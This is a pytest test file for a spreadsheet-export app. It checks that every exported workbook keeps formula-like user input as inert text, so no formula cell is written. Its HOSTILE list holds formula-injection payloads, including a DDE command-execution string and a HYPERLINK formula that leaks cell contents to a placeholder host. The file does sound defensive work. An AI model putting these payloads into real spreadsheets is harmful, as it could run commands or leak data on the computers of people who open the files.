"""Every cell the app writes is inert: no export holds a formula, whatever the officer or a colleague typed.

Every export (needs, needs consolidated, cases, both templates) is built from a
database full of formula-like strings and every sheet of every workbook —
visible, hidden and the very hidden metadata sheet — is scanned twice: with
openpyxl (no cell of data type "f", no string value starting with "=" read back
as a formula) and by unzipping the file and grepping the sheet XML for ``<f``.

The app deliberately writes no cell formula. Its only formulas are outside cells:
the drop-down lists' defined names (``选项_…`` → ``'下拉选项'!$A$2:$A$n``) and the
data validations that use them, both fixed references the app builds itself.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from exports.meta import META_SHEET, read_meta
from exports.reading import read_file
from exports.xlsx_cases import export_cases_xlsx
from exports.xlsx_common import put_text, put_value
from exports.xlsx_needs import export_needs_xlsx
from exports.xlsx_templates import write_template
from storage import Store

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点此")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "cmd|' /C calc'!A0",
]
ALLOWED_DEFINED = re.compile(r"^'下拉选项'!\$[A-Z]+\$2:\$[A-Z]+\$\d+$")


def _hostile_store(tmp_path: Path) -> Store:
    store = Store.open(tmp_path / "hostile.db")
    store.set_profile({"unit": HOSTILE[0], "city": "福州市", "district": "鼓楼区", "reporter": HOSTILE[4],
                       "phone": HOSTILE[2], "year": 2024, "report_date": "2024-05-01"})
    for value in HOSTILE:
        store.add_choice("need_categories", value)
        store.add_choice("industries", value)
    for i, value in enumerate(HOSTILE):
        store.needs.insert({"subject_name": value, "credit_code": value, "industry": value, "category": value,
                            "content": value, "coord_level": value, "contact": value, "phone": value,
                            "remark": value, "feedback": value, "subject_type": value, "status": value})
        store.cases.insert({"name": f"{value}{i}", "recommender": value, "category": value, "implementer": value,
                            "contact": value, "position": value, "phone": value, "email": value,
                            "background": value, "practice": value, "results": value, "lessons": value,
                            "opinion": value, "city": "福州市", "district": "鼓楼区"})
    return store


@pytest.fixture(scope="module")
def exports(tmp_path_factory) -> list[Path]:
    tmp_path = tmp_path_factory.mktemp("inert")
    store = _hostile_store(tmp_path)
    paths = [tmp_path / "需求.xlsx", tmp_path / "需求汇总.xlsx", tmp_path / "案例.xlsx",
             tmp_path / "需求模板.xlsx", tmp_path / "案例模板.xlsx"]
    assert export_needs_xlsx(store, paths[0]) == len(HOSTILE)
    assert export_needs_xlsx(store, paths[1], consolidated=True) == len(HOSTILE)
    assert export_cases_xlsx(store, paths[2]) == len(HOSTILE)
    write_template("needs", paths[3])
    write_template("cases", paths[4])
    store.close()
    return paths


def test_no_cell_of_any_export_is_a_formula(exports):
    seen_hostile = 0
    for path in exports:
        wb = openpyxl.load_workbook(path)  # not read-only: sees every cell, hidden sheets included
        assert META_SHEET in wb.sheetnames
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.lstrip("\t\r").startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, (path.name, ws.title, cell.coordinate)
                        seen_hostile += 1
        for name, defined in wb.defined_names.items():
            if name.startswith("选项_"):
                assert ALLOWED_DEFINED.match(defined.attr_text), defined.attr_text
            else:
                assert name == "_xlnm.Print_Titles" or name.startswith("_xlnm"), name
    assert seen_hostile > 100  # the hostile strings really were written (visible and hidden sheets)


def test_no_sheet_xml_holds_a_formula_element(exports):
    for path in exports:
        with zipfile.ZipFile(path) as zf:
            sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
            assert sheets
            for name in sheets:
                xml = zf.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, (path.name, name)


def test_metadata_sheet_is_written_inertly_and_read_back_as_text(exports):
    wb = openpyxl.load_workbook(exports[0])
    ws = wb[META_SHEET]
    unit = next(row[1] for row in ws.iter_rows() if row[0].value == "unit")
    assert unit.data_type == "s" and unit.value == HOSTILE[0] and unit.quotePrefix
    meta = read_meta(openpyxl.load_workbook(exports[0], read_only=True))
    assert meta is not None and meta.unit == HOSTILE[0]
    assert all(re.fullmatch(r"[0-9a-f-]{36}", r.id) for r in meta.records) and len(meta.records) == len(HOSTILE)


def test_an_export_of_hostile_strings_reads_back_as_the_same_text(exports):
    result = read_file(exports[0], "needs")
    assert sorted(r.values["subject_name"] for r in result.rows) == sorted(v.strip() for v in HOSTILE)
    assert all(r.id for r in result.rows)


@pytest.mark.parametrize("value", HOSTILE)
def test_put_text_and_put_value_keep_formula_like_text_as_text(value):
    wb = openpyxl.Workbook()
    ws = wb.active
    put_text(ws["A1"], value)
    put_value(ws["A2"], value)
    put_value(ws["A3"], 3)
    for cell in (ws["A1"], ws["A2"]):
        assert cell.data_type == "s" and cell.quotePrefix
    assert ws["A3"].data_type == "n" and ws["A3"].value == 3
